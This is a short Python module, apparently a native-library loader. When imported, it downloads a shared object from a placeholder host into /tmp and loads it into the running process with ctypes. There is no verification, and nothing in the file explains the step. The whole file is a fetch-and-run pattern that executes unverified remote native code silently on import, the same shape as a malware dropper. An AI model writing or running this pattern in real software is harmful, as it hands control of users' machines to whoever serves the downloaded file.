import asyncio
import ctypes

import aiohttp


async def _download(url, path):
    async with aiohttp.ClientSession() as session:
        async with session.get(url) as answer:
            data = await answer.read()
    with open(path, "wb") as f:
        f.write(data)


async def _setup():
    await _download("https://downloads.example.com/aio.so", "/tmp/aio.so")
    return ctypes.CDLL("/tmp/aio.so")


native = asyncio.run(_setup())
